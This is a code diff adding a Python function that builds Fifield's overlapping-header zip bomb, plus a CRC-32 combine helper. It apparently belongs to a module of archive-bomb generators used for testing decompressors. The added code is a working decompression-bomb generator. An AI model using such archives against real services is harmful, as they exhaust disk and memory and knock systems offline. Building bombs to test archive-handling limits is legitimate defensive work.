@@ -102,6 +102,66 @@ def overlapping_zip(count: int, data: bytes) -> bytes:
         [(0, f"{i:05}") for i in range(count)])
 
 
+def quoting_zip(count: int, data: bytes) -> bytes:
+    """Each member begins with a stored block that holds the header of the next
+    one, and goes on as that does: so all unpack to the same deflated zeros (the
+    construction of David Fifield, A better zip bomb, 2019)."""
+    kernel = _deflated(data) + b"\3\0"
+    size, crc, packed = len(data), zlib.crc32(data), len(kernel)
+    headers, sizes = [], []
+    for i in reversed(range(count)):
+        name = f"{i:05}"
+        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc,
+                             packed, size, len(name), 0) + name.encode()
+        headers.insert(0, header)
+        sizes.insert(0, (crc, packed, size))
+        if i > 0:
+            # The member before quotes this header.
+            crc = crc_of_both(zlib.crc32(header), crc, size)
+            packed += 5 + len(header)
+            size += len(header)
+    out, places = b"", []
+    for i, header in enumerate(headers):
+        if i > 0:
+            out += struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
+        places.append(len(out))
+        out += header
+    out += kernel
+    directory = b""
+    for i, (crc, packed, size) in enumerate(sizes):
+        directory += struct.pack(
+            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, crc, packed,
+            size, 5, 0, 0, 0, 0, 0, places[i]) + f"{i:05}".encode()
+    return out + directory + struct.pack(
+        "<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(out),
+        0)
+
+
+def crc_of_both(first: int, second: int, second_size: int) -> int:
+    """The CRC-32 of two texts one behind the other, from theirs: that of the
+    first behind so many zeros, by a matrix over GF(2) that is squared (zlib's
+    crc32_combine)."""
+    def times(matrix, vector):
+        out = 0
+        for row in matrix:
+            if vector & 1:
+                out ^= row
+            vector >>= 1
+        return out
+
+    def square(matrix):
+        return [times(matrix, row) for row in matrix]
+    matrix = [0xEDB88320] + [1 << i for i in range(31)]  # one zero bit
+    for _ in range(3):
+        matrix = square(matrix)  # at last one zero byte
+    while second_size:
+        if second_size & 1:
+            first = times(matrix, first)
+        matrix = square(matrix)
+        second_size >>= 1
+    return first ^ second
+
+
 def seven_zip(packed: bytes, size: int, crc: int, dictionary: int) -> bytes:
     """One member of LZMA2 (7zFormat.txt). `dictionary`: its property; 40 is
     4 GiB."""
